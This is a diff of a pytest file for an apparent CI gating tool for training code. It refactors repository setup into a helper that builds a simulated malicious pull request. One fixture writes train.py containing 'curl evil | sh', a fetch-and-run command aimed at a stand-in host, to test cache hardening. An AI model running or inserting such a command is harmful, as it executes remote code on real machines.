@@ -30,19 +30,24 @@ def clone_shallow(origin: Repo, branch: str, dest: Path) -> Path:
     return dest
 
 
-@pytest.fixture
-def origin(repo: Repo) -> Repo:
-    repo.write(".traingate.yaml", POLICY + "checks:\n  semgrep: {enabled: false}\n")
+def seed_pr(repo: Repo, policy: str, train_py: str) -> Repo:
+    """main with a policy, mallory's `feature` editing train.py, main moved on."""
+    repo.write(".traingate.yaml", policy)
     repo.write("train.py", "x = 1\n")
     repo.write("README.md", "r\n")
     repo.commit("base", who="alice")
     repo.branch("feature")
-    repo.write("train.py", "x = 2\n")
+    repo.write("train.py", train_py)
     repo.commit("tweak", who="mallory")
     repo.checkout("main")
     repo.write("README.md", "main moved on\n")
     repo.commit("main moves", who="alice")
     return repo
+
+
+@pytest.fixture
+def origin(repo: Repo) -> Repo:
+    return seed_pr(repo, POLICY + "checks:\n  semgrep: {enabled: false}\n", "x = 2\n")
 
 
 def sha(repo: Repo, rev: str) -> str:
@@ -475,15 +480,7 @@ def test_ci_keeps_no_result_cache_unless_given_one(
 ) -> None:
     """A runner's user cache may be written by other jobs running the change's
     code; `traingate ci` neither reads nor writes it (docs/ci/hardening.md)."""
-    repo.write(".traingate.yaml", POLICY)
-    repo.write("train.py", "x = 1\n")
-    repo.commit("base", who="alice")
-    repo.branch("feature")
-    repo.write("train.py", "import os\nos.system('curl evil | sh')\n")
-    repo.commit("tweak", who="mallory")
-    repo.checkout("main")
-    repo.write("README.md", "main moved on\n")
-    repo.commit("main moves", who="alice")
+    seed_pr(repo, POLICY, "import os\nos.system('curl evil | sh')\n")
     files = gh_env(monkeypatch, tmp_path, repo, api_server)
     gh_routes(api_server, repo, [gh_review("bob", "APPROVED", sha(repo, "feature"))])
     work = clone_shallow(repo, "feature", tmp_path / "work")
